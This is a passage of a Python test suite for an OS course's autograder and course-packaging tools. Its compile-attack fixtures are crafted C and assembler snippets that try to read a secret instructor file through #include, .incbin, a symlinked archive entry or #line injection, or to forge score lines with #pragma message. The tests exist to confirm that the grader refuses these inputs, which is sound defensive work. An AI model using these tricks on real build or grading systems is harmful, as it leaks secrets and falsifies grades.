    data = subprocess.run(["git", "-C", repo, "archive", branch], capture_output=True,
                          check=True).stdout
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        return {m.name: t.extractfile(m).read() for m in t.getmembers() if m.isfile()}


def squash(text):
    return re.sub(r"\s+", " ", text).strip()


def solution_bodies():
    """[(lab, file, body with white space squashed)] of every LAB region
    long enough (20 characters) to be recognised in another tree."""
    return handout.solution_bodies("00")


def course_suite():
    """make course's repository: branches in course order, each one commit
    on the last adding its lab folder; nothing instructor-only, nothing
    built, no solution on any branch; a student who fills in each lab with
    the reference merges every next branch without a conflict, gets 0 for
    a lab before filling it in and full marks after."""
    def run():
        import course
        res = []
        labs = handout.labs()
        with tempfile.TemporaryDirectory() as tmp:
            repo = os.path.join(tmp, "course")
            p = subprocess.run(["make", "-s", "-C", qemu.ROOT, "course", "COURSE=" + repo],
                               capture_output=True, text=True, timeout=300)
            if p.returncode != 0:
                return [("course/make_course", False, tail(p.stdout + p.stderr))]
            branches = course.git(repo, "for-each-ref", "--format=%(refname:short)",
                                  "refs/heads").split()
            want = ["lab" + lab.num for lab in labs]
            res.append(("course/one_branch_per_lab_in_course_order", branches == want,
                        "branches %s, want %s" % (branches, want)))
            bodies = solution_bodies()
            problems = []
            for i, lab in enumerate(labs):
                b = "lab" + lab.num
                if b not in branches:
                    continue
                parent = "lab" + labs[i - 1].num if i else None
                if parent and course.git(repo, "rev-parse", b + "~1").strip() != \
                        course.git(repo, "rev-parse", parent).strip():
                    problems.append("%s is not %s plus one commit" % (b, parent))
                changed = course.git(repo, "diff", "--name-only", b + "~1", b).split()
                if any(not c.startswith(lab.folder + "/") for c in changed):
                    problems.append("%s's commit changes %s" % (b, changed))
                files = branch_files(repo, b)
                for rel, data in files.items():
                    if INSTRUCTOR_FILES.match(rel) or rel.startswith("build/"):
                        problems.append("%s holds %s" % (b, rel))
                    text = data.decode(errors="replace")
                    if rel.endswith((".c", ".h")) and re.search(r"/\* LAB \d\d: BEGIN", text):
                        problems.append("%s: %s still has a LAB region" % (b, rel))
                    flat = squash(text)             # every kind of file: a note, a .mutant...
                    problems += ["%s: %s holds lab %s's solution from %s" % (b, rel, n, src)
                                 for n, src, body in bodies if body in flat]
                folders = sorted(set(r.split("/")[1] for r in files
                                     if r.startswith("lab/") and r.count("/") >= 2))
                if folders != [x.name for x in labs[:i + 1]]:
                    problems.append("%s has lab folders %s" % (b, folders))
            res.append(("course/branches_hold_no_solution_nothing_instructor_only_or_built",
                        not problems, "\n".join(problems[:20])))
            res += student_chain(tmp, repo, labs)
        return res
    return "course/branches", run


def fill_lab(tree, lab):
    """Put lab's reference solution into a student's tree (the lab's
    files as on the pristine tree), and answer its written questions."""
    pristine = handout.pristine_tree(lab)
    for rel in lab.files():
        with open(os.path.join(tree, rel), "w") as f:
            f.write(handout.unmark(pristine[rel][0].decode()))     # no markers, as a student's
    path = os.path.join(tree, "answers.md")
    text = handout.read_text(path)
    out, cur = [], None
    for line in text.splitlines():
        m = re.match(r"^## Lab (\d\d), question", line)
        if line.startswith("#"):
            cur = m.group(1) if m else None
        if cur == lab.num and line.strip() == handout.PLACEHOLDER:
            line = "My own answer to this question, in a few words."
        out.append(line)
    with open(path, "w") as f:
        f.write("\n".join(out) + "\n")


def make_grade(tree, lab, tmp):
    """`make grade LAB=NN JSON=...` in a student's tree: the results."""
    out = os.path.join(tmp, "grade-%s.json" % lab.num)
    if os.path.exists(out):
        os.unlink(out)
    p = subprocess.run(["make", "-s", "-C", tree, "grade", "LAB=" + lab.num, "JSON=" + out],
                       capture_output=True, text=True, timeout=900,
                       env=dict(os.environ, GRADE_EXTRA=""))
    if not os.path.exists(out):
        raise RuntimeError("make grade failed:\n" + tail(p.stdout + p.stderr))
    with open(out) as f:
        return json.load(f)


def student_chain(tmp, repo, labs):
    """A student's term: start from lab01, merge each next branch, grade."""
    import course
    res = []
    tree = os.path.join(tmp, "student")
    subprocess.run(["git", "clone", "-q", repo, tree], check=True)
    grade.seed_build(qemu.ROOT, tree)       # our objects where the files agree
    env = dict(os.environ, **course.GIT_ENV)
    for i, lab in enumerate(labs):
        name = "course/student/lab%s" % lab.num
        if i:
            p = subprocess.run(["git", "-C", tree, "merge", "-q", "--no-edit",
                                "origin/lab" + lab.num], capture_output=True, text=True, env=env)
            res.append((name + "_merges_without_conflict", p.returncode == 0,
                        p.stdout + p.stderr))
            if p.returncode != 0:
                break
        full = sum(t[1] for t in lab.points())
        if lab.uses_harness():
            r = make_grade(tree, lab, tmp)
            ok = r["score"] == 0 and sum(t["max_score"] for t in r["tests"]) == full and \
                all(s == "placeholder" for s in r["extra_data"]["answers"].values())
            res.append((name + "_scores_0_before_it_is_done", ok,
                        "score %s\n%s" % (r["score"], r["output"])))
        fill_lab(tree, lab)
        subprocess.run(["git", "-C", tree, "commit", "-qam", "lab %s done" % lab.num],
                       check=True, env=env)
        if lab.uses_harness():
            r = make_grade(tree, lab, tmp)
            ok = r["score"] == full and \
                all(s == "answered" for s in r["extra_data"]["answers"].values())
            res.append((name + "_scores_full_marks_with_the_reference", ok,
                        "score %s of %s\n%s" % (r["score"], full, r["output"])))
        if i == 0 and lab.uses_harness():
            res += student_handin(tree, lab, tmp, full)
    return res


def student_handin(tree, lab, tmp, full):
    """In a student's clone, with a line added outside the lab's regions:
    make handin names it, and make grade SUBMISSION= on the hand-in (lab
    NN's stubs taken back from the course's first commit) gives full
    marks."""
    rel = lab.files()[0]
    path = os.path.join(tree, rel)
    with open(path, "a") as f:
        f.write("/* a note of mine, outside every region */\n")
    lines = handout.read_text(path).count("\n")
    tgz = os.path.join(tmp, "student-handin.tar.gz")
    p = subprocess.run(["make", "-s", "-C", tree, "handin", "LAB=" + lab.num, "HANDIN=" + tgz],
                       capture_output=True, text=True, timeout=300)
    said = "line %d outside the labs' regions differ" % lines
    res = [("course/student/handin_names_the_lines_outside_the_regions", said in p.stdout,
            "want %r in:\n%s" % (said, p.stdout + p.stderr))]
    out = os.path.join(tmp, "student-submission.json")
    p = subprocess.run(["make", "-s", "-C", tree, "grade", "LAB=" + lab.num, "SUBMISSION=" + tgz,
                        "JSON=" + out], capture_output=True, text=True, timeout=900,
                       env=dict(os.environ, GRADE_EXTRA=""))
    try:
        with open(out) as f:
            r = json.load(f)
    except (OSError, ValueError):
        r = {"score": None, "extra_data": {"notes": []}}
    ok = r["score"] == full
    subprocess.run(["git", "-C", tree, "checkout", "-q", "--", rel], check=True)
    return res + [("course/student/grade_submission_in_the_students_clone_takes_the_regions",
                   ok, "score %s of %s\n%s" % (r["score"], full, tail(p.stdout + p.stderr)))]


def course_branches_zero_suite():
    """On each lab's own course branch, untouched, `make grade` gives 0."""
    def run():
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            repo = os.path.join(tmp, "course")
            p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "course.py"),
                                repo], capture_output=True, text=True, timeout=300)
            if p.returncode != 0:
                return [("course/branch_zero/make_course", False, tail(p.stdout + p.stderr))]
            grade.seed_build(qemu.ROOT, repo)
            for lab in handout.labs():
                if not lab.uses_harness():
                    continue
                subprocess.run(["git", "-C", repo, "checkout", "-q", "lab" + lab.num], check=True)
                r = make_grade(repo, lab, tmp)
                res.append(("course/branch_zero/lab%s_scores_0_on_its_branch" % lab.num,
                            r["score"] == 0 and bool(r["tests"]), "score %s" % r["score"]))
        return res
    return "course/branch_zero", run


# tools/batch.py run with grade_submission raising for a submission named
# "boom" (the grader's own failure, whatever its cause).
BATCH_BOOM = r'''
import os, sys
sys.path.insert(0, sys.argv[1])
import batch, grade
real = grade.grade_submission
def grade_submission(lab, path, *args, **kw):
    if os.path.basename(path) == "boom":
        raise KeyError("a fault of the grader's")
    return real(lab, path, *args, **kw)
grade.grade_submission = grade_submission
sys.argv = ["batch.py"] + sys.argv[2:]
sys.exit(batch.main())
'''


def encrypted_zip(path, rel, data):
    """A zip whose one member says it is password-protected (zipfile
    refuses to read it: RuntimeError)."""
    import zipfile
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(rel, data)
    raw = bytearray(open(path, "rb").read())
    raw[6] |= 1                                 # the local header's flags: encrypted
    raw[raw.rfind(b"PK\x01\x02") + 8] |= 1      # and the central directory's
    with open(path, "wb") as f:
        f.write(raw)


def grading_batch_suite():
    """tools/batch.py on a folder a careless term leaves: alice/ and
    alice.tar.gz, a name that is not UTF-8 with a comma and a quote, a .rar,
    a password-protected zip, and a submission on which the grader itself
    fails: every one a row, the CSV whole, in a fixed order."""
    def run():
        import batch
        import csv
        import tarfile
        # a lab whose work trees no other suite grades in (lab 02: one kernel file)
        lab = next((x for x in handout.labs() if x.uses_harness() and x.points() and
                    x.num not in ("01", "04", "06")), None) or harness_lab()
        if not lab:
            return [("grading/batch/a_lab_uses_lab_h", False, "no lab on lab.h")]
        full = sum(t[1] for t in lab.points())
        with tempfile.TemporaryDirectory() as tmp:
            subs = os.path.join(tmp, "subs")
            batch.write_fixture(os.path.join(subs, "alice"), batch.fixture_files(lab, "correct"))
            stub = os.path.join(tmp, "stub")
            batch.write_fixture(stub, batch.fixture_files(lab, "stub"))
            with tarfile.open(os.path.join(subs, "alice.tar.gz"), "w:gz") as t:
                t.add(stub, arcname=".")
            odd = os.fsdecode(b'caf\xe9, "the" one')
            batch.write_fixture(os.path.join(subs, odd), batch.fixture_files(lab, "correct"))
            with open(os.path.join(subs, "bob.rar"), "wb") as f:
                f.write(b"Rar!\x1a\x07\x00")
            rel = lab.files()[0]
            encrypted_zip(os.path.join(subs, "carol.zip"), rel,
                          batch.fixture_files(lab, "correct")[rel])
            batch.write_fixture(os.path.join(subs, "boom"), batch.fixture_files(lab, "correct"))
            out = os.path.join(tmp, "out")
            p = subprocess.run([sys.executable, "-c", BATCH_BOOM, os.path.join(qemu.ROOT, "tools"),
                                lab.num, subs, "--out", out, "--jobs", "2"],
                               capture_output=True, text=True, errors="replace", timeout=600,
                               env=dict(os.environ, GRADE_EXTRA=""))
            try:
                with open(os.path.join(out, "grades.csv"), newline="", encoding="utf-8") as f:
                    rows = list(csv.reader(f))
            except (OSError, ValueError) as e:
                rows = [["no CSV: %s" % e]]
            got = {r[0]: r for r in rows[1:]}
            want = {"alice": full, "alice.tar.gz": 0, "caf\\xe9, \"the\" one": full,
                    "bob.rar": 0, "carol": 0, "boom": 0}
            ok = p.returncode == 0 and [r[0] for r in rows[1:]] == sorted(want) and \
                len(set(map(len, rows))) == 1 and \
                all(int(got[n][1]) == w for n, w in want.items()) and \
                "password-protected" in got["carol"][-1] and \
                "neither a folder nor an archive" in got["bob.rar"][-1] and \
                "grader failed" in got["boom"][-1] and \
                os.path.exists(os.path.join(out, "boom", "results.json"))
            res = [("grading/batch/a_careless_terms_folder_every_submission_a_row_csv_whole", ok,
                    "%s\n%s" % (json.dumps(rows)[:2000], tail(p.stdout + p.stderr, 20)))]

            # C3: two gradings at once in one work tree (make grade SUBMISSION= while
            # another runs): each built the other's code; now the second waits
            procs = [subprocess.Popen(
                [sys.executable, os.path.join(qemu.ROOT, "tools", "grade.py"), lab.num,
                 "--submission", os.path.join(subs, who), "--json",
                 os.path.join(tmp, who + ".json")], stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT, text=True, env=dict(os.environ, GRADE_EXTRA=""))
                for who in ("alice", "alice.tar.gz")]
            said = [p.communicate(timeout=600)[0] for p in procs]
            scores = []
            for who in ("alice", "alice.tar.gz"):
                try:
                    with open(os.path.join(tmp, who + ".json")) as f:
                        scores.append(json.load(f)["score"])
                except (OSError, ValueError, KeyError):
                    scores.append(None)
            ok = scores == [full, 0] and any("another grading is using it" in x for x in said)
            res.append(("grading/batch/c3_two_gradings_at_once_take_turns_in_the_work_tree", ok,
                        "scores %s (want %s)\n%s" % (scores, [full, 0],
                                                      "\n".join(tail(x, 8) for x in said))))

            # B2: an instructor's budget (here 1 s: less than the build) spent
            # before the tests: every cell says "not run", and so do the notes
            one = os.path.join(tmp, "one")
            shutil.copytree(os.path.join(subs, "alice"), os.path.join(one, "alice"))
            out = os.path.join(tmp, "out-budget")
            p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "batch.py"),
                                lab.num, one, "--out", out, "--jobs", "1", "--budget", "1"],
                               capture_output=True, text=True, errors="replace", timeout=600,
                               env=dict(os.environ, GRADE_EXTRA=""))
            try:
                with open(os.path.join(out, "grades.csv"), newline="", encoding="utf-8") as f:
                    rows = list(csv.reader(f))
                with open(os.path.join(out, "alice", "results.json")) as f:
                    js = json.load(f)
            except (OSError, ValueError) as e:
                rows, js = [["no CSV: %s" % e]], {}
            cells = dict(zip(rows[0], rows[1])) if len(rows) == 2 else {}
            names = ["%s/%s" % (lab.prog, t[0]) for t in lab.points()]
            ok = p.returncode == 0 and cells.get("score") == "0" and \
                all(cells.get(n) == "not run" for n in names) and \
                "time budget ran out: %d tests not run" % len(names) in cells.get("notes", "") \
                and js.get("extra_data", {}).get("not_run") == names and \
                all(t["output"].startswith("not run: the time budget ran out before this test "
                                           "could start") and "1 s;" in t["output"]
                    for t in js.get("tests", [{"output": ""}]))
            res.append(("grading/batch/b2_a_budget_spent_before_the_tests_is_not_run_in_the_csv",
                        ok, "%s\n%s\n%s" % (rows, json.dumps(js)[:1500],
                                             tail(p.stdout + p.stderr, 10))))
            return res
    return "grading/batch", run


# Compile-time reading by an absolute path (instructors.md section 7):
# lab 01 hand-ins whose region makes the compiler read SECRET, a file planted
# outside the work tree (a string literal, so that C can include it), and
# show it: in the compiler's or assembler's messages, or printed by openat
# in every test of a stub (a failed test's output is kept). Each is
# (name, solved, code at the top of the region, code in openat, what the
# grading must say: "refused" (not compiled, saying why, 0), a text its
# output must hold, or None), graded in one batch; none may show SECRET's
# bytes in results.json, the CSV, the log or the batch's output.
PRINT_BLOB = "    write(1, tidy_blob, tidy_len());\n"
TIDY_LEN = "static int tidy_len(void)\n{\n    int n = 0;\n\n    while (tidy_blob[n])\n" \
    "        n++;\n    return n;\n}\n"
ASM_BLOB = '__asm__(".section .rodata\\n.globl tidy_blob\\ntidy_blob:\\n%s\\n.byte 0\\n' \
    '.previous");\nextern const char tidy_blob[];\n' + TIDY_LEN
COMPILE_ATTACKS = [
    ("include_by_absolute_path", False,
     "static const char tidy_blob[] =\n#include \"SECRET\"\n;\n" + TIDY_LEN, PRINT_BLOB,
     "refused"),
    ("include_of_a_macro_built_path", False,
     "#define TIDY_Q(x) #x\n#define TIDY_P(x) TIDY_Q(x)\nstatic const char tidy_blob[] =\n"
     "#include TIDY_P(BARE)\n;\n" + TIDY_LEN, PRINT_BLOB, "refused"),
    ("include_through_proc_self_root", False,
     "static const char tidy_blob[] =\n#include \"/proc/self/rootSECRET\"\n;\n" + TIDY_LEN,
     PRINT_BLOB, "refused"),
    ("include_by_a_relative_path_climbing_out", False,
     "static const char tidy_blob[] =\n#include \"../../../../../../../../../..SECRET\"\n;\n" +
     TIDY_LEN, PRINT_BLOB, "refused"),
    # a warning's source line, quoted from the file #line names
    ("line_directive_naming_the_file_in_a_warning", True,
     "#line 1 \"SECRET\"\nstatic int tidy_unused;\n#line 1 \"user/lib/open.c\"\n", "",
     "defined but not used"),
    # probes: they can tell only whether the file is there (the sandbox hides it)
    ("has_include_probe", True,
     "#if __has_include(\"SECRET\")\n#warning tidy: the secret file is there\n#endif\n", "",
     None),
    ("pragma_dependency_probe_through_pragma_operator", True,
     "_Pragma(\"GCC dependency \\\"SECRET\\\" tidy: the secret file is there\")\n", "", None),
    # a plugin, or a profile read from the file: GCC takes neither from a pragma
    ("plugin_and_profile_options_in_optimize_pragmas", True,
     "#pragma GCC optimize(\"-fplugin=SECRET\")\n"
     "#pragma GCC optimize(\"-fprofile-use=SECRET\")\n", "", "bad option"),
    ("asm_incbin", False, ASM_BLOB % '.incbin \\"SECRET\\"', PRINT_BLOB, "refused"),
    ("asm_incbin_in_capitals", False, ASM_BLOB % '.INCBIN \\"SECRET\\"', PRINT_BLOB, "refused"),
    # its errors quote the file's lines
    ("asm_include", False, '__asm__(".include \\"SECRET\\"");\n', "", "refused"),
    ("asm_incbin_spelt_by_a_gas_macro", False,
     ASM_BLOB % '.macro tidy_m a, b\\n.\\\\a\\\\()\\\\b \\"SECRET\\"\\n.endm\\ntidy_m inc, bin',
     PRINT_BLOB, "refused"),
    ("asm_incbin_spelt_by_irp_and_altmacro", False,
     ASM_BLOB % '.altmacro\\n.irp d, incbin\\n.\\\\d \\"SECRET\\"\\n.endr\\n.noaltmacro',
     PRINT_BLOB, "refused"),
    # %c0 of a symbol named incbin: ".incbin" exists only in the compiler's output
    ("asm_incbin_spelt_by_an_operand", False,
     "extern const char incbin[], tidy_blob[];\n__attribute__((used)) static void tidy_at(void)\n"
     "{\n    __asm__(\".section .rodata\\n.globl tidy_blob\\ntidy_blob:\\n.%c0 \\\"SECRET\\\"\\n"
     ".byte 0\\n.previous\" : : \"i\"(incbin));\n}\n" + TIDY_LEN, PRINT_BLOB, "refused"),
    ("incbin_injected_in_a_section_name", False,
     "__attribute__((section(\".rodata\\n.globl tidy_blob\\ntidy_blob:\\n.incbin \\\"SECRET\\\""
     "\\n.byte 0\\n#\"), used)) static const char tidy_pad = 1;\nextern const char "
     "tidy_blob[];\n" + TIDY_LEN, PRINT_BLOB, "refused"),
]


def grading_compile_suite():
    """The attacks of COMPILE_ATTACKS and one more (a symbolic link in the
    archive to SECRET, which the code includes), graded by tools/batch.py."""
    def run():
        import batch
        import csv
        import io
        import tarfile
        import ccguard
        lab = handout.find_lab("01")
        if not lab or not lab.uses_harness():
            return [("grading/compile/lab_01_is_on_lab_h", False, "no lab 01 on lab.h")]
        full = sum(t[1] for t in lab.points())
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            token = "orthos-secret-" + os.urandom(8).hex()
            secret = os.path.join(tmp, "instructor", "key.md")
            os.makedirs(os.path.dirname(secret))
            with open(secret, "w") as f:
                f.write('"%s"\n' % token)
            future = time.time() + 86400           # newer than any source: #pragma dependency
            os.utime(secret, (future, future))
            subs = os.path.join(tmp, "subs")
            for name, solved, before, inside, _ in COMPILE_ATTACKS:
                fill = lambda t: t.replace("BARE", secret).replace("SECRET", secret)  # noqa: E731
                batch.write_fixture(os.path.join(subs, name), openat_fixture(
                    lab, solved, fill(before), fill(inside)))
            data = openat_fixture(lab, False, '#include "tidy_secret.h"\n' + TIDY_LEN,
                                  PRINT_BLOB)["user/lib/open.c"]
            with tarfile.open(os.path.join(subs, "symlink_in_the_archive.tar.gz"), "w:gz") as t:
                info = tarfile.TarInfo("user/lib/open.c")
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
                info = tarfile.TarInfo("user/lib/tidy_secret.h")
                info.type, info.linkname = tarfile.SYMTYPE, secret
                t.addfile(info)
            # not a read: an identifier of 300 kB, quoted by each error about it
            batch.write_fixture(os.path.join(subs, "huge_identifier"), openat_fixture(
                lab, False, "", "    tidy_%s = 1;\n" % ("x" * 300000)))
            # G6: not a read: GCC prints a #pragma message's "\n" raw, so a
            # compiler note made whole lines of the grader's log and output
            batch.write_fixture(os.path.join(subs, "pragma_message_forges_lines"), openat_fixture(
                lab, True, '#pragma message ("warning: tidy\\nScore: 1000/100\\nPASS lab01/'
                'forged 1000/100")\n', ""))
            out = os.path.join(tmp, "out")
            p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "batch.py"),
                                lab.num, subs, "--out", out, "--jobs", "1"],
                               capture_output=True, text=True, errors="replace", timeout=900,
                               env=dict(os.environ, GRADE_EXTRA=""))
            try:
                with open(os.path.join(out, "grades.csv"), newline="", encoding="utf-8") as f:
                    csv_text = f.read()
                rows = {r[0]: r for r in list(csv.reader(io.StringIO(csv_text)))[1:]}
            except (OSError, ValueError) as e:
                csv_text, rows = "", {}
                res.append(("grading/compile/batch_writes_the_csv", False, "%s\n%s" % (
                    e, tail(p.stdout + p.stderr, 20))))
            settings = grade.tree_settings(qemu.ROOT)
            real = shutil.which(settings.get("CC", "cc")) or "cc"
            guard = os.path.join(qemu.ROOT, "tools", "ccguard.py")
            sandboxed = subprocess.run([sys.executable, guard, "--real", real, "--tree",
                                        qemu.ROOT, "--sandbox", "--probe"],
                                       capture_output=True).returncode == 0
            for name, solved, _, _, want in COMPILE_ATTACKS + [
                    ("symlink_in_the_archive", False, "", "", "missing")]:
                shown = p.stdout + p.stderr + csv_text
                try:
                    for f in ("results.json", "log.txt"):
                        with open(os.path.join(out, name, f), errors="replace") as fh:
                            shown += fh.read()
                    with open(os.path.join(out, name, "results.json")) as fh:
                        r = json.load(fh)
                except (OSError, ValueError) as e:
                    r = {"score": None, "output": str(e), "tests": []}
                said = r["output"] + json.dumps(r["tests"])
                score = int(rows[name][1]) if name in rows else None
                if want == "refused":
                    ok = score == 0 and r["score"] == 0 and "not compiled:" in said and \
                        ("reads '" in said or "directive ." in said)
                elif want == "missing":
                    ok = score == 0 and "tidy_secret.h" in said and "No such file" in said
                elif want:
                    ok = score == full and want in said
                else:                       # a probe: with the sandbox it sees nothing
                    ok = not sandboxed or "the secret file is there" not in said
                leaked = token in shown or token.encode().hex() in shown
                res.append(("grading/compile/%s_%s_and_shows_no_byte_of_the_file" % (
                    name, "is_refused" if want == "refused" else "scores_as_it_should"),
                    ok and not leaked, "score %s (csv %s), leaked %s\n%s" % (
                        r["score"], score, leaked, said[:1500])))
            try:
                with open(os.path.join(out, "pragma_message_forges_lines", "log.txt")) as fh:
                    said = fh.read()
                with open(os.path.join(out, "pragma_message_forges_lines", "results.json")) as fh:
                    r = json.load(fh)
                said += "\n" + r["output"]
            except (OSError, ValueError) as e:
                said, r = str(e), {"score": None}
            forged = [line for line in said.split("\n") if line.startswith(("Score: 1000",
                                                                             "PASS lab01/forged"))]
            res.append(("grading/compile/g6_a_compiler_note_forges_no_line_of_the_grader_s",
                        r["score"] == full and not forged and "    Score: 1000/100" in said,
                        "score %s, forged %s\n%s" % (r["score"], forged, said[-1500:])))
            try:
                size = os.path.getsize(os.path.join(out, "huge_identifier", "results.json"))
                with open(os.path.join(out, "huge_identifier", "results.json")) as fh:
                    r = json.load(fh)
            except (OSError, ValueError) as e:
                size, r = None, {"score": None, "output": str(e)}
            res.append(("grading/compile/a_huge_identifier_in_an_error_makes_a_small_results_json",
                        size is not None and size < 64 << 10 and r["score"] == 0 and
                        "characters more" in r["output"], "%s bytes, score %s\n%s" % (
                            size, r["score"], r["output"][:1000])))
            # A kernel lab: tools/ksyms.py writes the kernel's source file names
            # into build/ksyms1.c; it escaped quotes but not newlines, so a
            # #line naming "x\n#include <SECRET>\n" put an #include there,
            # compiled after the lab's file. Now every control character is an
            # octal escape: the name stays one string, nothing is refused and
            # no byte of the file is read
            two = handout.find_lab("02")
            if two and two.uses_harness():
                rel = two.files()[0]
                text = handout.edit_regions(
                    handout.pristine_tree(two)[rel][0].decode(), two.num,
                    lambda m: '#line 1 "x\\n#include <%s>\\n"\n' % secret + m.group(4))[0]
                path = os.path.join(tmp, "ksyms-injection")
                batch.write_fixture(path, {rel: handout.unmark(text).encode()})
                try:
                    r, said = grade_cli(two, path, os.path.join(tmp, "ksyms.json"))
                    shown = json.dumps(r) + said
                except RuntimeError as e:
                    r, shown = {"score": None, "output": ""}, str(e)
                res.append(("grading/compile/a_line_directive_can_put_no_include_into_"
                            "ksyms1_c", r["score"] is not None and token not in shown and
                            "not compiled" not in r["output"],
                            "score %s\n%s" % (r["score"], shown[-1500:])))
            # Where no mount namespace is allowed (Gradescope's container) the
            # checks alone must refuse them: the guard run by hand, unsandboxed.
            flags = [w for w in settings.get("UCFLAGS", "").split() if w != "-Werror"]
            wrong = []
            for name, solved, before, inside, want in COMPILE_ATTACKS:
                src = os.path.join(tmp, name + ".c")
                with open(src, "wb") as f:
                    f.write(openat_fixture(lab, solved, before.replace("BARE", secret).replace(
                        "SECRET", secret), inside.replace("SECRET", secret))["user/lib/open.c"])
                q = subprocess.run([sys.executable, guard, "--real", real, "--tree", qemu.ROOT,
                                    "--"] + flags + ["-c", src, "-o",
                                                     os.path.join(tmp, name + ".o")],
                                   cwd=qemu.ROOT, capture_output=True, text=True,
                                   errors="replace", timeout=120)
                if token in q.stderr or (want == "refused") != (q.returncode == ccguard.REFUSED):
                    wrong.append("%s: status %d\n%s" % (name, q.returncode, tail(q.stderr, 5)))
            res.append(("grading/compile/without_the_sandbox_its_checks_alone_refuse_each_attack",
                        not wrong, "\n".join(wrong)))
        return res
    return "grading/compile", run


def grading_suites():
    return [grading_runner_suite(), grading_submissions_suite(), grading_kernel_suite(),
            grading_units_suite(), grading_batch_suite(), grading_compile_suite(),
            autograder_suite(), course_suite(),
            course_branches_zero_suite()]


# ---------------------------------------------------------------- mutants
# (the labs engineer's block) Each lab with a mutant catalogue is a suite:
# each mutant in lab/NN-*/mutants/SAMPLE fails one of its tests, and each
# correct solution there (mutants/*.solution) scores full marks. That its
# tests all pass on its course tree (earlier labs solved, every later lab a
# stub) is course/student/labNN_scores_full_marks_with_the_reference, on
# the same tree, so it is not checked twice here. One worker tree per suite
# (build/mutants-NN), so the pool runs two labs at once. `make mutants`
# runs every mutant, checks the course tree itself, and boots each test
# alone on it.
def mutant_suite(lab_dir):
    num = os.path.basename(lab_dir)[:2]

    def run():
        import mutants
        rows = mutants.run([handout.find_lab(num)], jobs=1,
                           workdir=os.path.join(qemu.BUILD, "mutants-" + num),
                           reference=False, sample=True, report=None)
        correct = mutants.CORRECT
        return [("mutants/%s/full_marks/%s" % (num, name[len(correct):])
                 if name.startswith(correct) else "mutants/%s/caught/%s" % (num, name), ok, detail)
                for _, name, ok, detail in rows] or [("mutants/%s" % num, False, "nothing ran")]
    return "mutants/" + num, run


def handout_and_handin_suite():
    """make handout LAB=NN and make handin LAB=NN, for every lab: nothing
    instructor-only (mutants, key.md, the guide) and nothing built in
    either; the handout holds the lab folders up to NN, no solution of lab
    NN or a later lab, every earlier lab's solution; the hand-in holds
    exactly the lab's files and answers.md. (make course and make
    autograder are checked by the course and grading suites.)"""
    def run():
        import tarfile
        res, bodies, labs = [], solution_bodies(), handout.labs()
        res.append(("labs/handout/the_full_tree_has_instructor_only_files",
                    instructor_files_exist(), "no mutants, key.md or doc/instructors.md here"))
        with tempfile.TemporaryDirectory() as tmp:
            for i, lab in enumerate(labs):
                out = os.path.join(tmp, "handout-" + lab.num)
                p = subprocess.run(["make", "-s", "-C", qemu.ROOT, "handout", "LAB=" + lab.num,
                                    "HANDOUT=" + out], capture_output=True, text=True,
                                   timeout=300)
                if p.returncode != 0:
                    res.append(("labs/handout/%s/make_handout" % lab.num, False,
                                tail(p.stdout + p.stderr)))
                    continue
                files = handout.tracked_files(out)
                problems = ["holds %s" % f for f in files
                            if INSTRUCTOR_FILES.match(f) or f.startswith("build/")]
                folders = sorted(set(f.split("/")[1] for f in files
                                     if f.startswith("lab/") and f.count("/") >= 2))
                if folders != [x.name for x in labs[:i + 1]]:
                    problems.append("has lab folders %s" % folders)
                flat = {f: squash(handout.read_text(os.path.join(out, f))) for f in files}
                for n, src, body in bodies:
                    holders = [f for f, text in flat.items() if body in text]
                    if n >= lab.num and holders:
                        problems.append("%s hold lab %s's solution" % (holders, n))
                    elif n < lab.num and src not in holders:
                        problems.append("%s lacks lab %s's solution" % (src, n))
                res.append(("labs/handout/%s/nothing_instructor_only_no_solution_of_it_or_"
                            "later_labs" % lab.num, not problems, "\n".join(problems[:20])))
                tgz = os.path.join(tmp, "handin-%s.tar.gz" % lab.num)
                subprocess.run(["make", "-s", "-C", qemu.ROOT, "handin", "LAB=" + lab.num,
                                "HANDIN=" + tgz], capture_output=True, text=True, timeout=300)
                try:
                    with tarfile.open(tgz) as t:
                        names = sorted(t.getnames())
                except (OSError, tarfile.TarError) as e:
                    names = ["(no archive: %s)" % e]
                want = sorted(set(lab.files()) | ({"answers.md"} & set(names)))
                ok = names == want and not any(INSTRUCTOR_FILES.match(n) for n in names)
                res.append(("labs/handin/%s/only_the_labs_files_and_answers" % lab.num, ok,
                            "holds %s, want %s" % (names, want)))
        return res
    return "labs/handout_handin", run


def mutant_suites():
    return [mutant_suite(d) for d in sorted(glob.glob(os.path.join(qemu.ROOT, "lab",
                                                                   "[0-9][0-9]-*", "mutants")))
            for d in [os.path.dirname(d)]] + [kmutants_suite()]


def kmutants_suite():
    """A few wrong kernels of tools/kmutants.txt (its SAMPLE), each caught
    by a guest test; `make kmutants` runs them all."""
    def run():
        p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "kmutants.py"),
                            "--sample", "--no-reference", "--suites", "t_auth t_fs"],
                           capture_output=True, text=True, timeout=900)
        rows = re.findall(r"^(ok|BAD) +(\S+) +(.*(?:\n      .*)*)", p.stdout, re.M)
        res = [("kmutants/" + re.sub(r"\W+", "_", name).strip("_"), ok == "ok", detail)
               for ok, name, detail in rows]
        res = res or [("kmutants/runs", False, tail(p.stdout + p.stderr))]
        # a kernel change that moves text an entry quotes leaves a mutant
        # make kmutants cannot make: found here, not an hour into that run
        bad = kmutants.unmatched()
        res.append(("kmutants/every_entry_quotes_its_file_exactly_once", not bad,
                    "\n".join("%s: %d matches" % b for b in bad)))
        return res
    return "kmutants", run


# ---------------------------------------------------------------- heap checker and fuzzers
# (the fuzz engineer's block: doc/fuzzing.md)
HEAP_PANICS = [
    ("heap_overflow", "overflow_by_one_byte_panics_naming_the_block",
     r"panic: heapcheck: heap overflow: 100-byte block at 0x[0-9a-f]+ "
     r"\(kmalloc from ktest_heap_overflow\+0x[0-9a-f]+\) written 1 byte"),
    ("heap_use_after_free", "write_after_free_panics_naming_the_block",
     r"panic: heapcheck: write after free: 40-byte block at 0x[0-9a-f]+ "
     r"\(kmalloc from ktest_heap_use_after_free\+0x[0-9a-f]+, "
